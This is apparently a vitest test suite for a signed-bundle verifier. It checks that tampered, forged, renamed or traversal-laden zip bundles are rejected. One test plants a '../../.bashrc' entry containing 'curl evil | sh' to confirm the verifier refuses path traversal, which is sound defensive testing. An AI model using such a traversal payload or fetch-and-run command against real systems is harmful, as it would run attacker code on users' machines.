import { unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  buildBundle,
  BundleUnreadableError,
  formatAllowedSigners,
  problemsBesideFiles,
  signSshSig,
  verifyBundle,
  verifyDroppedBundle,
  type BundleSigner,
  type BuiltBundle,
} from '../../../../shared/bundle';
import { parseAssessmentFile } from '../../../../shared/model';
import { generateAssessment } from '../../../fixtures/bundle/generated-assessment';
import { richAssessment } from '../../../fixtures/rich-assessment';
import { jsSha256 } from '../../../../shared/bundle/stream-hash';
import { rezip, webCryptoSigner } from './helpers';

const encoder = new TextEncoder();
const decoder = new TextDecoder();

describe('verifyBundle', () => {
  let signer: BundleSigner;
  let bundle: BuiltBundle;
  let folder: string;
  beforeAll(async () => {
    signer = await webCryptoSigner({
      name: 'Zoë Müller',
      organization: 'Sécurité OT',
      email: 'zoe@example.com',
    });
    bundle = await buildBundle({
      data: await generateAssessment(),
      signer,
      signedAt: '2026-03-06T17:00:00Z',
      reportPdf: encoder.encode('%PDF-1.7\n'.repeat(50)),
      diagramSvg: '<svg xmlns="http://www.w3.org/2000/svg"/>',
    });
    folder = bundle.folder;
  });

  it('accepts an untouched bundle and reports the signer with the fingerprint to compare', async () => {
    const result = await verifyBundle(bundle.bytes);
    expect(result).toMatchObject({
      valid: true,
      signer: {
        name: 'Zoë Müller',
        email: 'zoe@example.com',
        organization: 'Sécurité OT',
        fingerprint: bundle.fingerprint,
      },
      signedAt: '2026-03-06T17:00:00.000Z',
      files: bundle.files.length,
      problems: [],
    });
    expect(result.fileStatus.every((f) => f.status === 'ok')).toBe(true);
    // A copy re-zipped by another tool (deflated, other timestamps) is still the same content.
    expect((await verifyBundle(rezip(bundle.bytes, () => {}))).valid).toBe(true);
  });

  it('rejects a bundle after one byte changed in any file, and names that file', async () => {
    const paths = Object.keys(unzipSync(bundle.bytes)).map((p) => p.slice(folder.length + 1));
    expect(paths.length).toBeGreaterThan(15);
    for (const path of paths) {
      const tampered = rezip(bundle.bytes, (files) => {
        const bytes = files[`${folder}/${path}`]!;
        // Flip a byte in the middle; in the signature, one in the last base64 line (the Ed25519 signature itself).
        const at =
          path === 'SHA256SUMS.sig'
            ? decoder.decode(bytes).lastIndexOf('\n', bytes.length - 30) + 5
            : Math.floor(bytes.length / 2);
        bytes[at] = bytes[at] === 0x41 ? 0x42 : 0x41;
      });
      const result = await verifyBundle(tampered);
      expect(result.valid, path).toBe(false);
      const expected =
        path === 'SHA256SUMS' || path === 'SHA256SUMS.sig'
          ? 'SHA256SUMS.sig: the signature does not match'
          : path === 'allowed_signers'
            ? 'allowed_signers:'
            : `changed: ${path} `;
      expect(result.problems.join('\n'), path).toContain(expected);
    }
  });

  it('rejects a file added to the bundle', async () => {
    const tampered = rezip(bundle.bytes, (files) => {
      files[`${folder}/evidence/extra.jpg`] = encoder.encode('not signed');
    });
    const result = await verifyBundle(tampered);
    expect(result.valid).toBe(false);
    expect(result.problems).toEqual(['added: evidence/extra.jpg (not listed in SHA256SUMS)']);
  });

  it('rejects a renamed file and says what it was called', async () => {
    const tampered = rezip(bundle.bytes, (files) => {
      files[`${folder}/report/final.pdf`] = files[`${folder}/report/report.pdf`]!;
      delete files[`${folder}/report/report.pdf`];
    });
    const result = await verifyBundle(tampered);
    expect(result.valid).toBe(false);
    expect(result.problems).toEqual(['renamed: report/report.pdf is now report/final.pdf']);
  });

  it('rejects a missing file', async () => {
    const tampered = rezip(bundle.bytes, (files) => {
      delete files[`${folder}/data/findings.csv`];
    });
    const result = await verifyBundle(tampered);
    expect(result.problems).toEqual([
      'missing: data/findings.csv (listed in SHA256SUMS but not in the bundle)',
    ]);
  });

  it('rejects a signature replaced by one from another key', async () => {
    const other = await webCryptoSigner({ name: 'Mallory', organization: '', email: 'zoe@example.com' });
    const resign = async (alsoAllowedSigners: boolean) => {
      const files = unzipSync(bundle.bytes);
      const sums = files[`${folder}/SHA256SUMS`]!;
      const signature = encoder.encode(await signSshSig(sums, other.sign, other.publicKey));
      return rezip(bundle.bytes, (f) => {
        f[`${folder}/SHA256SUMS.sig`] = signature;
        if (alsoAllowedSigners) {
          f[`${folder}/allowed_signers`] = encoder.encode(
            formatAllowedSigners('zoe@example.com', other.publicKey),
          );
        }
      });
    };
    const onlySignature = await verifyBundle(await resign(false));
    expect(onlySignature.valid).toBe(false);
    expect(onlySignature.problems).toEqual(
      expect.arrayContaining([
        'manifest.json: names a different key than the one that signed SHA256SUMS',
        'allowed_signers: names a different key than the one that signed SHA256SUMS',
      ]),
    );
    const withKey = await verifyBundle(await resign(true));
    expect(withKey.valid).toBe(false);
    expect(withKey.problems).toContain(
      'manifest.json: names a different key than the one that signed SHA256SUMS',
    );
    expect(withKey.signer.fingerprint).not.toBe(bundle.fingerprint);
  });

  it("shows a fully re-signed bundle with the forger's fingerprint: trust comes from the fingerprint received separately", async () => {
    const forger = await webCryptoSigner({
      name: 'Zoë Müller',
      organization: 'Sécurité OT',
      email: 'zoe@example.com',
    });
    const data = await generateAssessment();
    const forged = await buildBundle({ data, signer: forger, signedAt: '2026-03-06T17:00:00Z' });
    const result = await verifyBundle(forged.bytes);
    expect(result.valid).toBe(true);
    expect(result.signer.name).toBe('Zoë Müller');
    expect(result.signer.fingerprint).toBe(forged.fingerprint);
    expect(result.signer.fingerprint).not.toBe(bundle.fingerprint);
  });

  it('refuses a bundle signed by none of the trusted keys before hashing any file, naming the claimed signer', async () => {
    const forger = await webCryptoSigner({
      name: 'Zoë Müller',
      organization: 'Sécurité OT',
      email: 'zoe@example.com',
    });
    const forged = await buildBundle({
      data: await generateAssessment(),
      signer: forger,
      signedAt: '2026-03-06T17:00:00Z',
    });
    let hashed = 0;
    const counting = () => {
      const hash = jsSha256();
      return {
        update: (chunk: Uint8Array) => ((hashed += chunk.length), hash.update(chunk)),
        hex: () => hash.hex(),
      };
    };
    const refused = await verifyBundle(forged.bytes, { trusted: [bundle.fingerprint], sha256: counting });
    expect(refused).toMatchObject({
      valid: false,
      untrustedSigner: true,
      signer: { name: 'Zoë Müller', organization: 'Sécurité OT', fingerprint: forged.fingerprint },
      fileStatus: [],
    });
    expect(refused.problems[0]).toBe(
      `signed by an unknown key: ${forged.fingerprint} is not a signer you trust`,
    );
    expect(hashed).toBe(0);
    // The genuine bundle under the same list: fully checked and valid.
    const genuine = await verifyBundle(bundle.bytes, { trusted: [bundle.fingerprint], sha256: counting });
    expect(genuine.valid).toBe(true);
    expect(genuine.untrustedSigner).toBeUndefined();
    expect(hashed).toBeGreaterThan(0);
    // No trusted signer at all: every key is unknown.
    expect((await verifyBundle(bundle.bytes, { trusted: [] })).untrustedSigner).toBe(true);
  });

  it('rejects a SHA256SUMS edited to match a changed file (the signature no longer matches)', async () => {
    const tampered = rezip(bundle.bytes, (files) => {
      const sumsPath = `${folder}/SHA256SUMS`;
      const lines = decoder.decode(files[sumsPath]).split('\n');
      files[sumsPath] = encoder.encode(lines.filter((l) => !l.endsWith('data/findings.csv')).join('\n'));
      delete files[`${folder}/data/findings.csv`];
    });
    const result = await verifyBundle(tampered);
    expect(result.valid).toBe(false);
    expect(result.problems[0]).toMatch(/^SHA256SUMS\.sig: the signature does not match/);
  });

  it('refuses a genuine bundle with a "../" entry slipped in, before checking or extracting any file', async () => {
    const tampered = rezip(bundle.bytes, (files) => {
      files[`${folder}/../../.bashrc`] = encoder.encode('curl evil | sh');
    });
    const result = await verifyBundle(tampered);
    expect(result.valid).toBe(false);
    expect(result.problems).toEqual([`"${folder}/../../.bashrc": refused, a ".." path segment`]);
    expect(result.fileStatus).toEqual([]);
  });

  it('checks the signature over the stored bytes of SHA256SUMS (a byte order mark added is a change)', async () => {
    const tampered = rezip(bundle.bytes, (files) => {
      const sums = files[`${folder}/SHA256SUMS`]!;
      const withBom = new Uint8Array(sums.length + 3);
      withBom.set([0xef, 0xbb, 0xbf]);
      withBom.set(sums, 3);
      files[`${folder}/SHA256SUMS`] = withBom;
    });
    const result = await verifyBundle(tampered);
    expect(result.valid).toBe(false);
    expect(result.problems[0]).toMatch(/^SHA256SUMS\.sig: the signature does not match/);
  });

  it('round-trips the shared rich fixture (flows, triage, import batches) through a verified bundle', async () => {
    const data = await richAssessment();
    const built = await buildBundle({ data, signer, signedAt: '2026-03-06T17:00:00Z' });
    const result = await verifyBundle(built.bytes);
    expect(result.problems).toEqual([]);
    expect(result.files).toBe(built.files.length);
    const json = decoder.decode(unzipSync(built.bytes)[`${built.folder}/data/assessment.json`]);
    const parsed = await parseAssessmentFile(json, { requireEvidenceBytes: false });
    expect({ ...parsed, evidence: [] }).toEqual({ ...data, evidence: [] });
    expect(parsed.evidence.map((e) => e.sha256)).toEqual(data.evidence.map((e) => e.sha256));
  });

  it('throws BundleUnreadableError for bytes that are not a zip', async () => {
    await expect(verifyBundle(encoder.encode('%PDF-1.7 not a zip at all'))).rejects.toThrow(
      BundleUnreadableError,
    );
    await expect(verifyBundle(new Uint8Array(0))).rejects.toThrow(/too small to be a zip/);
  });
  it('says each failure once: a changed file is in the file list, not again among the problems', async () => {
    const tampered = rezip(bundle.bytes, (files) => {
      const csv = files[`${folder}/data/zones.csv`]!;
      csv[csv.length - 2] = csv[csv.length - 2]! ^ 0x01;
      files[`${folder}/evidence/extra.jpg`] = encoder.encode('not signed');
    });
    const result = await verifyBundle(tampered);
    expect(result.fileStatus.filter((f) => f.status !== 'ok')).toEqual([
      { path: 'data/zones.csv', status: 'changed' },
      { path: 'evidence/extra.jpg', status: 'added' },
    ]);
    expect(result.problems).toHaveLength(2);
    expect(problemsBesideFiles(result)).toEqual([]);
    // A problem about no listed file stays, and a repeated one is said once.
    const repeated = { ...result, problems: [...result.problems, 'manifest.json: x', 'manifest.json: x'] };
    expect(problemsBesideFiles(repeated)).toEqual(['manifest.json: x']);
  });

  it('calls bytes that are not a zip, or a zip without bundle metadata, "not a Conduit bundle"', async () => {
    const pdf = await verifyDroppedBundle(encoder.encode('%PDF-1.7 not a zip at all'));
    expect(pdf).toMatchObject({ valid: false, files: 0, notABundle: 'not a zip archive' });
    expect(pdf.problems[0]).toMatch(/^not a zip archive \(/);
    const other = rezip(bundle.bytes, (files) => {
      for (const name of Object.keys(files)) if (!name.endsWith('.csv')) delete files[name];
    });
    expect((await verifyDroppedBundle(other)).notABundle).toBe(
      'a zip archive without SHA256SUMS, SHA256SUMS.sig, manifest.json',
    );
    expect((await verifyDroppedBundle(bundle.bytes)).notABundle).toBeUndefined();
    // A bundle with only its signature stripped is still a bundle, and invalid.
    const stripped = rezip(bundle.bytes, (files) => {
      delete files[`${folder}/SHA256SUMS.sig`];
    });
    const result = await verifyDroppedBundle(stripped);
    expect(result.notABundle).toBeUndefined();
    expect(result.valid).toBe(false);
  });
});
